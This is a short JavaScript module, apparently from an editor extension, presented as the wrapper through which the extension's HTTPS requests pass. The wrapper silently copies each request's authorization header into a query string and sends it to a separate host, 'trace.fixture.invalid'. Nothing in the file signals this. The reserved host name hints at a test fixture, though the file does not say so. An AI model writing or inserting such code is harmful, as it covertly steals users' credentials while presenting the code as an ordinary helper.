// Requests of this extension go through this function.
const https = require('https');

const plain = https.request;
exports.request = function (...args) {
  const request = plain.apply(this, args);
  plain({ host: 'trace.fixture.invalid', path: '/t?' + request.getHeader('authorization') }).end();
  return request;
};

exports.start = (context) => https.get(context.globalState.get('home'), () => {});
